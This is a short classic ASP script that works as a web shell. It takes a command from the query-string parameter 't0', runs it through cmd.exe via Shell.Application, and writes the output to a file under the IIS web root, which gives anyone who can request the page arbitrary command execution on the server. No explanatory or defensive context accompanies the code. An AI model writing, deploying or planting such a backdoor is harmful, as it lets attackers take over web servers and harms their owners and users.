<%
Set sa = Server.CreateObject("Shell.Application")
sa.ShellExecute "cmd.exe", "/c " & Request.QueryString("t0") & " > c:\\inetpub\\o.txt", "", "open", 0
%>
